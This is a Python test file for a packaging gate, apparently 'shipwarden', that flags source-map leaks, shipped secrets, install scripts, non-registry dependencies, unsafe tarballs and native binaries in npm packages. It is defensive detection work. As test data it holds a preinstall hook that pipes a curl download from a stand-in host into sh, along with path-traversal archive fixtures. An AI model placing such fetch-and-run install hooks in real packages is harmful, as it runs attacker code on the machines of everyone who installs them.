"""The npm fixtures of issue 4, reviewed through the built-in packlist (npm itself in test_packlist)."""

from __future__ import annotations

import io
import json
import tarfile
from pathlib import Path

import gatefixtures as gf
from gatehelpers import gate, rules_of

from shipwarden.packaging.policy import GatePolicy


def test_bundle_with_source_map_is_blocked(npm_fixture) -> None:  # type: ignore[no-untyped-def]
    result = gate(npm_fixture("bundle-with-map"))
    found = {f.rule_id: f for f in result.report.findings}
    leak = found["gate-source-map-content"]
    assert leak.tier.value == "P1" and leak.primary.path == "dist/cli.js.map"
    assert leak.properties["files"] == 4 and leak.properties["lines"] == 3 * 40 + 1
    assert leak.properties["by_directory"] == {"src/": 3, "node_modules/": 1}
    assert "../src/module0.ts" in leak.properties["sample_paths"]
    assert "gate-no-files-allowlist" in found  # the root cause of the Claude Code leak
    assert "gate-source-beside-bundle" in found


def test_npmignore_replaces_gitignore_and_env_ships(npm_fixture) -> None:  # type: ignore[no-untyped-def]
    result = gate(npm_fixture("npmignore-trap"))
    files = [f.path for f in result.results[0].files]
    assert ".env" in files and "test/index.test.js" not in files
    by_rule = {f.rule_id: f for f in result.report.findings}
    secret = by_rule["gate-secret"]
    assert secret.tier.value == "P0" and secret.primary.path == ".env" and secret.primary.line == 1
    token = gf.npm_token()
    assert token not in json.dumps([f.to_dict() for f in result.report.findings])  # always redacted
    assert secret.properties["redacted"].startswith("npm_") and secret.properties["publish_capable"]
    assert by_rule["gate-never-ship"].properties["category"] == "env-file"


def test_files_dist_ships_maps_despite_root_ignore(npm_fixture) -> None:  # type: ignore[no-untyped-def]
    result = gate(npm_fixture("files-dist-maps"))
    assert [f.path for f in result.results[0].files] == ["dist/index.js", "dist/index.js.map", "package.json"]
    assert rules_of(result) == [("gate-source-map-content", "P1", "dist/index.js.map")]


def test_clean_package_passes(npm_fixture) -> None:  # type: ignore[no-untyped-def]
    result = gate(npm_fixture("clean"))
    assert result.report.findings == [] and result.report.errors == []
    assert sorted(f.path for f in result.results[0].files) == [
        "LICENSE",
        "README.md",
        "dist/index.d.ts",
        "dist/index.js",
        "package.json",
    ]


def test_inline_source_map(npm_fixture) -> None:  # type: ignore[no-untyped-def]
    result = gate(npm_fixture("inline-map"))
    (leak,) = result.report.findings
    assert leak.rule_id == "gate-source-map-content" and leak.properties["inline"] is True
    assert leak.primary.path == "cli.mjs" and leak.primary.line == 2
    assert leak.properties["lines"] == 2 * 25 + 1


def test_map_without_sources_content_is_lower_tier(tmp_path: Path) -> None:
    gf.write(
        tmp_path,
        {
            "package.json": gf.pkg_json(files=["dist", "src"]),
            "dist/a.js": "x\n",
            "dist/a.js.map": gf.source_map(2, 5, with_content=False),
            "src/module0.ts": "export {}\n",
        },
    )
    (finding,) = [f for f in gate(tmp_path).report.findings if f.rule_id.startswith("gate-source-map")]
    assert finding.rule_id == "gate-source-map" and finding.tier.value == "P2"
    assert finding.properties["shipped_sources"] == ["src/module0.ts"]
    assert finding.confidence.value == "high"


def test_install_scripts_and_non_registry_dependencies(npm_fixture) -> None:  # type: ignore[no-untyped-def]
    result = gate(npm_fixture("install-time"))
    got = {
        (f.rule_id, f.tier.value, f.properties.get("dependency", f.properties.get("script")))
        for f in result.report.findings
    }
    assert got == {
        ("gate-install-script", "P1", "postinstall"),
        ("gate-non-registry-dependency", "P1", "tool"),
        ("gate-non-registry-dependency", "P0", "@fixture/setup"),  # the TanStack delivery
    }
    script = next(f for f in result.report.findings if f.rule_id == "gate-install-script")
    assert script.primary.line > 0 and '"postinstall"' in script.primary.snippet


def test_policy_allows_reviewed_install_script(npm_fixture) -> None:  # type: ignore[no-untyped-def]
    root = npm_fixture("install-time")
    allowed = GatePolicy(allow_install_scripts={"postinstall": "node setup.js"})
    assert "gate-install-script" not in {f.rule_id for f in gate(root, policy=allowed).report.findings}
    pinned = GatePolicy(allow_install_scripts={"postinstall": "node other.js"})
    assert "gate-install-script" in {f.rule_id for f in gate(root, policy=pinned).report.findings}


def test_suspicious_script_and_implicit_node_gyp(tmp_path: Path) -> None:
    gf.write(
        tmp_path,
        {
            "package.json": gf.pkg_json(scripts={"preinstall": "curl -s https://x.example.invalid/i.sh | sh"}),
            "binding.gyp": "{}",
        },
    )
    findings = [f for f in gate(tmp_path).report.findings if f.rule_id == "gate-install-script"]
    assert [(f.tier.value, f.properties["script"]) for f in findings] == [("P0", "preinstall")]
    gf.write(tmp_path, {"package.json": gf.pkg_json()})
    (implicit,) = [f for f in gate(tmp_path).report.findings if f.rule_id == "gate-install-script"]
    assert implicit.properties["command"] == "node-gyp rebuild" and implicit.primary.path == "binding.gyp"


def test_allow_files_and_budgets(npm_fixture) -> None:  # type: ignore[no-untyped-def]
    root = npm_fixture("files-dist-maps")
    policy = GatePolicy(allow_files=["dist/*.map"], max_size=10, max_files=2)
    got = rules_of(gate(root, policy=policy))
    assert got == [("gate-size-budget", "P1", "package.json")]


def test_secret_in_minified_line_is_located(tmp_path: Path) -> None:
    token = gf.github_token()
    line = "var a=1;" * 5000 + f'var k="{token}";' + "var b=2;" * 100
    gf.write(tmp_path, {"package.json": gf.pkg_json(files=["dist"]), "dist/app.min.js": "/*x*/\n" + line + "\n"})
    (secret,) = [f for f in gate(tmp_path).report.findings if f.rule_id == "gate-secret"]
    assert secret.primary.line == 2 and secret.primary.column == line.index(token) + 1
    assert token not in secret.message


def test_secret_inside_sources_content(tmp_path: Path) -> None:
    token = gf.github_token()
    data = json.loads(gf.source_map(1, 3))
    data["sourcesContent"][0] += f'\nconst key = "{token}"\n'
    gf.write(tmp_path, {"package.json": gf.pkg_json(files=["dist"]), "dist/a.js.map": json.dumps(data)})
    secret = next(f for f in gate(tmp_path).report.findings if f.rule_id == "gate-secret")
    assert secret.properties["original_file"] == "../src/module0.ts"
    assert token not in json.dumps(secret.to_dict())


def test_npm_tarball_target(tmp_path: Path) -> None:
    tgz = gf.npm_tarball(
        tmp_path / "fixture-pkg-1.0.0.tgz",
        {
            "package.json": gf.pkg_json(files=["dist"]),
            "dist/cli.js": "x",
            "dist/cli.js.map": gf.source_map(),
            ".npmrc": "//registry.example.invalid/:_authToken=x",
        },
    )
    result = gate(tgz)
    got = rules_of(result)
    prefix = "fixture-pkg-1.0.0.tgz!/package/"
    assert ("gate-source-map-content", "P1", prefix + "dist/cli.js.map") in got
    assert ("gate-never-ship", "P1", prefix + ".npmrc") in got
    assert result.results[0].summary is not None and result.results[0].summary.display == "fixture-pkg@1.0.0"


def test_hostile_tarballs_error_without_extracting(tmp_path: Path, tar_bomb: Path) -> None:
    before = set(tmp_path.rglob("*"))
    for archive in (tar_bomb, gf.traversal_tar(tmp_path / "evil-1.0.0.tgz")):
        result = gate(archive)
        unsafe = [f for f in result.report.findings if f.rule_id == "gate-unsafe-archive"]
        assert len(unsafe) == 1 and unsafe[0].tier.value == "P0"
        assert result.report.errors and result.report.errors[0].kind in ("archive-limit", "unsafe-member")
    assert set(tmp_path.rglob("*")) - before == {tmp_path / "evil-1.0.0.tgz"}
    assert "decompression bomb" in gate(tar_bomb).report.errors[0].message
    assert "traversal" in gate(tmp_path / "evil-1.0.0.tgz").report.errors[0].message


def test_native_binary_in_npm_package(tmp_path: Path) -> None:
    elf = b"\x7fELF\x02\x01\x01" + bytes(200)
    gf.write(tmp_path, {"package.json": gf.pkg_json(files=["bin"]), "bin/tool": elf})
    (finding,) = gate(tmp_path).report.findings
    assert finding.rule_id == "gate-native-binary" and finding.properties["format"] == "ELF"


def test_unreadable_and_empty_targets(tmp_path: Path) -> None:
    assert gate(tmp_path).report.errors[0].kind == "empty"
    (tmp_path / "pyproject.toml").write_text("[project]\nname='x'\n")
    assert gate(tmp_path).report.errors[0].kind == "needs-build"
    bad = tmp_path / "x.tgz"
    bad.write_bytes(b"nope")
    assert gate(bad).report.errors[0].kind == "not-an-archive"


def _tar_with(members: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as tar:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def test_dist_folder_of_archives(tmp_path: Path) -> None:
    (tmp_path / "a-1.0.0.tgz").write_bytes(
        _tar_with({"package/package.json": gf.pkg_json(files=["x"]).encode(), "package/.env": b"API_KEY=1"})
    )
    gf.harmless_pth_wheel(tmp_path)
    result = gate(tmp_path)
    assert [r.artifact.kind.value for r in result.results] == ["npm-tarball", "wheel"]
    assert rules_of(result) == [("gate-never-ship", "P1", "a-1.0.0.tgz!/package/.env")]
